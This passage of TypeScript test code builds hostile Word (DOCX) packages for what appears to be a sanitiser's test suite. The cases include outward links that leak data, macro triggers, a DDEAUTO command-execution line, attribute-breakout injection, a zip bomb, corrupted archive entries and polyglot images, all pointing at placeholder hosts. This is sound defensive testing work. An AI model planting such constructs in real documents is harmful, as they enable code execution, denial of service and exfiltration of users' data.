          '/word/charts/chart1.xml': 'application/vnd.openxmlformats-officedocument.drawingml.chart+xml',
        },
        relations: [['rId66', 'chart', 'charts/chart1.xml']],
        parts: {
          'word/charts/chart1.xml': `${XML}<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" xmlns:r="${NS_R}"><c:chart><c:plotArea/></c:chart><c:externalData r:id="rId66"><c:autoUpdate c:val="1" val="1"/></c:externalData></c:chartSpace>`,
          'word/charts/_rels/chart1.xml.rels': rels(external(id, 'oleObject', `file:///${unc(id)}.xlsx`)),
        },
      },
    ),
  );
  id = 'd67';
  attack(
    id,
    'An Office add-in that opens its pane by itself, named by the package',
    d('', {
      rootRelations: [
        [
          'rId66',
          'http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes',
          'word/webextensions/taskpanes.xml',
        ],
      ],
      overrides: {
        '/word/webextensions/taskpanes.xml': 'application/vnd.ms-office.webextensiontaskpanes+xml',
        '/word/webextensions/webextension1.xml': 'application/vnd.ms-office.webextension+xml',
      },
      parts: {
        'word/webextensions/taskpanes.xml': `${XML}<wetp:taskpanes xmlns:wetp="http://schemas.microsoft.com/office/webextensions/taskpanes/2010/11"><wetp:taskpane dockstate="right" visibility="1" width="350" row="1"><wetp:webextensionref xmlns:r="${NS_R}" r:id="rId1"/></wetp:taskpane></wetp:taskpanes>`,
        'word/webextensions/_rels/taskpanes.xml.rels': rels([
          [
            'rId1',
            'http://schemas.microsoft.com/office/2011/relationships/webextension',
            'webextension1.xml',
          ],
        ]),
        'word/webextensions/webextension1.xml': `${XML}<we:webextension xmlns:we="http://schemas.microsoft.com/office/webextensions/webextension/2010/11" id="{${mark(id)}}"><we:reference id="${mark(id)}" version="1.0" store="${web(id)}" storeType="FileSystem"/></we:webextension>`,
      },
    }),
  );
  id = 'd68';
  attack(
    id,
    'Custom ribbon (customUI) and key map (customizations.xml) that call macros',
    d('', {
      rootRelations: [
        [
          'rId66',
          'http://schemas.microsoft.com/office/2006/relationships/ui/extensibility',
          'customUI/customUI.xml',
        ],
      ],
      relations: [
        [
          'rId67',
          'http://schemas.microsoft.com/office/2006/relationships/keyMapCustomizations',
          'customizations.xml',
        ],
      ],
      overrides: { '/word/customizations.xml': 'application/vnd.ms-word.keyMapCustomizations+xml' },
      parts: {
        'customUI/customUI.xml': `${XML}<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" onLoad="${mark(id)}"><ribbon startFromScratch="true"/></customUI>`,
        'word/customizations.xml': `${XML}<wne:tcg xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"><wne:keymaps><wne:keymap wne:kcmPrimary="0041"><wne:macro wne:macroName="${mark(id)}"/></wne:keymap></wne:keymaps></wne:tcg>`,
      },
    }),
  );
  id = 'd69';
  attack(id, 'A page background by VML fill and a picture bullet, both outward', {
    ...d('', {
      relations: [...external(id, 'image'), ['rId55', 'numbering', 'numbering.xml']],
      overrides: { '/word/numbering.xml': CT.numbering },
      parts: {
        'word/numbering.xml': story(
          'numbering',
          '<w:numPicBullet w:numPicBulletId="0"><w:pict><v:shape id="b"><v:imagedata r:id="rId66" r:href="rId66"/></v:shape></w:pict></w:numPicBullet>',
        ),
        'word/_rels/numbering.xml.rels': rels(external(id, 'image')),
      },
    }),
    'word/document.xml': document(BODY).replace(
      '<w:body>',
      '<w:background w:color="FFFFFF"><v:background id="b"><v:fill r:id="rId66" r:href="rId66" type="frame"/></v:background></w:background><w:body>',
    ),
  });
  id = 'd70';
  attack(
    id,
    'Old form fields with macros on entry and exit, and w:object movie/hdr attributes',
    d(
      para(
        `<w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:name w:val="x"/><w:entryMacro w:val="${mark(id)}"/><w:exitMacro w:val="${mark(id)}"/></w:ffData></w:fldChar></w:r>${instr(' FORMTEXT ')}${fieldChar('end')}`,
      ),
    ),
  );
  id = 'd71';
  attack(
    id,
    "A token inside a field's instruction: what a teacher types becomes an instruction (type the plan's objective as in `rules.plan`), and sends it out",
    d(
      para(field(` INCLUDEPICTURE "${web(id)}?x=${braces('objective')}" `)) +
        para(complex(instr(`${braces('objective')}`))),
    ),
    `DDEAUTO cmd "/k ${mark(id)}"`,
  );
  id = 'd72';
  attack(
    id,
    'A token in the target of a relation, in a bookmark, in a comment and in an attribute: filled there it sends out what pupils and teachers are called, or breaks out of the attribute',
    d(
      para(
        `<w:hyperlink r:id="rId66" w:tooltip="${braces('objective')}"><w:r><w:t>pautan</w:t></w:r></w:hyperlink><w:bookmarkStart w:id="4" w:name="${braces('className')}"/><w:bookmarkEnd w:id="4"/><!-- ${braces('objective')} -->`,
      ),
      { relations: external(id, 'hyperlink', `${web(id)}?x=${braces('objective')}`) },
    ),
    `" onload="${mark(id)}" x="--><w:p/>`,
  );
  id = 'd73';
  attack(id, '300 MB of spaces in a part of 300 kB, whose head says 10 bytes', [
    ...entriesOf(d('', { overrides: { '/word/theme/theme1.xml': CT.theme } })),
    { name: 'word/theme/theme1.xml', data: Buffer.alloc(300_000_000, 32), claim: { size: 10 } },
  ]);
  id = 'd74';
  {
    const parts = entriesOf(d(para(drawing('rId66', 'link')), { relations: external(id, 'image') }));
    attack(
      id,
      'Entries that say they are encrypted, of method 99 and 12, with another sum than their bytes',
      parts
        .map((entry, i) =>
          entry.name.endsWith('document.xml.rels')
            ? { ...entry, claim: { crc: 0xdeadbeef } }
            : i === 4
              ? { ...entry, flags: 0x0801 }
              : entry,
        )
        .concat([
          { name: `word/${mark(id)}.xml`, data: '<x/>', store: true, method: 99 },
          { name: `word/${mark(id)}2.xml`, data: '<x/>', store: true, method: 12 },
        ]),
    );
  }
  id = 'd75';
  {
    const [, bad] = plain(id);
    const name = 'word/_rels/document.xml.rels';
    const whole = Buffer.from(String(bad[name]));
    const rest = entriesOf(bad).filter((entry) => entry.name !== name);
    attack(
      id,
      'The relations in pieces (interleaving of the package standard): document.xml.rels/[0].piece, [1].last.piece',
      [
        ...rest,
        { name: `${name}/[0].piece`, data: whole.subarray(0, 150) },
        { name: `${name}/[1].last.piece`, data: whole.subarray(150) },
      ],
    );
  }
  id = 'd76';
  attack(
    id,
    'Pictures of old formats (EMF, WMF, EPS, PICT, TIFF, ICO) whose readers have had faults for decades',
    d(
      ['emf', 'wmf', 'eps', 'pict', 'tiff', 'ico']
        .map((_, i) => para(drawing(`rId${60 + i}`, 'embed', i + 1)))
        .join(''),
      {
        defaults: {
          emf: 'image/x-emf',
          wmf: 'image/x-wmf',
          eps: 'image/eps',
          pict: 'image/pict',
          tiff: 'image/tiff',
          ico: 'image/x-icon',
        },
        relations: ['emf', 'wmf', 'eps', 'pict', 'tiff', 'ico'].map((kind, i) => [
          `rId${60 + i}`,
          'image',
          `media/a.${kind}`,
        ]),
        parts: Object.fromEntries(
          ['emf', 'wmf', 'eps', 'pict', 'tiff', 'ico'].map((kind) => [
            `word/media/a.${kind}`,
            Buffer.from(`%!PS ${mark(id)} ${kind}`),
          ]),
        ),
      },
    ),
  );
  id = 'd77';
  attack(
    id,
    'A true PNG with the attack in a text chunk and after its end (a second ZIP); and a linked and embedded picture at once (r:embed and r:link)',
    d(para(drawing('rId60').replace('r:embed="rId60"', 'r:embed="rId60" r:link="rId66"')), {
      relations: [['rId60', 'image', 'media/a.png'], ...external(id, 'image')],
      parts: {
        'word/media/a.png': Buffer.concat([PIXEL, zip([{ name: 'x', data: mark(id), store: true }])]),
      },
    }),
  );
  id = 'd78';
  attack(
    id,
    'A signature part with outward references, a thumbnail outward, custom properties linked to bookmarks',
    d('', {
      rootRelations: [
        ['rId66', `${PKG}relationships/digital-signature/origin`, '_xmlsignatures/origin.sigs'],
        ['rId67', `${PKG}relationships/metadata/thumbnail`, web(id), 'External'],
      ],
      defaults: { sigs: 'application/vnd.openxmlformats-package.digital-signature-origin' },
      overrides: {
        '/_xmlsignatures/sig1.xml':
          'application/vnd.openxmlformats-package.digital-signature-xmlsignature+xml',
      },
      parts: {
        '_xmlsignatures/origin.sigs': '',
        '_xmlsignatures/_rels/origin.sigs.rels': rels([
          ['rId1', `${PKG}relationships/digital-signature/signature`, 'sig1.xml'],
        ]),
        '_xmlsignatures/sig1.xml': `${XML}<Signature xmlns="http://www.w3.org/2000/09/xmldsig#"><SignedInfo><Reference URI="${web(id)}"/></SignedInfo></Signature>`,
      },
    }),
  );
  id = 'd79';
  attack(
    id,
    'SmartArt, ink and 3D parts with outward relations of their own',
    d(
      para(
        '<w:r><w:drawing><wp:inline><wp:extent cx="1" cy="1"/><wp:docPr id="8" name="s"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/diagram"><dgm:relIds xmlns:dgm="http://schemas.openxmlformats.org/drawingml/2006/diagram" r:dm="rId66" r:lo="rId66" r:qs="rId66" r:cs="rId66"/></a:graphicData></a:graphic></wp:inline></w:drawing></w:r><w:r><w:contentPart r:id="rId67"/></w:r>',
      ),
      {
        overrides: {
          '/word/diagrams/data1.xml':
            'application/vnd.openxmlformats-officedocument.drawingml.diagramData+xml',
          '/word/ink/ink1.xml': 'application/inkml+xml',
        },
        relations: [
          ['rId66', 'diagramData', 'diagrams/data1.xml'],
          ['rId67', 'customXml', 'ink/ink1.xml'],
        ],
        parts: {
          'word/diagrams/data1.xml': `${XML}<dgm:dataModel xmlns:dgm="http://schemas.openxmlformats.org/drawingml/2006/diagram" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="${NS_R}"><dgm:bg><a:blipFill><a:blip r:link="rId1"/></a:blipFill></dgm:bg></dgm:dataModel>`,
          'word/diagrams/_rels/data1.xml.rels': rels([['rId1', 'image', web(id), 'External']]),
          'word/ink/ink1.xml': `${XML}<ink xmlns="http://www.w3.org/2003/InkML"><annotationXML href="${web(id)}"/></ink>`,
        },
      },
    ),
  );
  id = 'd80';
  attack(
    id,
    'An online video with embedded HTML, a:hlinkMouseOver, a:videoFile r:link, a:audioFile',
    d(
      para(
        drawing('rId60')
          .replace(
            'name="Gambar 1"/>',
            `name="Gambar 1"><a:extLst><a:ext uri="{C809E66F-F1BF-436E-B5F7-EEA9579F0CBA}"><wp15:webVideoPr xmlns:wp15="http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing" embeddedHtml="&lt;iframe src=&quot;${web(id)}&quot;&gt;" h="1" w="1"/></a:ext></a:extLst></wp:docPr>`,
          )
          .replace('<pic:cNvPicPr/>', '<pic:cNvPicPr/><pic:nvPr><a:videoFile r:link="rId66"/></pic:nvPr>'),
      ),
      {
        relations: [['rId60', 'image', 'media/a.png'], ...external(id, 'video')],
        parts: { 'word/media/a.png': PIXEL },
      },
    ),
  );

  for (const [n2, parity] of [
    ['d81', 1],
    ['d82', 0],
  ] as const) {
    id = n2;
    const [, bad] = plain(id);
    attack(
      id,
      `Types, relations and document in UTF-16, stored, of odd lengths at ${parity ? 'odd' : 'even'} places`,
      odd(
        bad,
        [
          '[Content_Types].xml',
          '_rels/.rels',
          'word/_rels/document.xml.rels',
          'word/document.xml',
          'word/styles.xml',
        ],
        parity,
      ),
    );
  }

  return attacks;
}
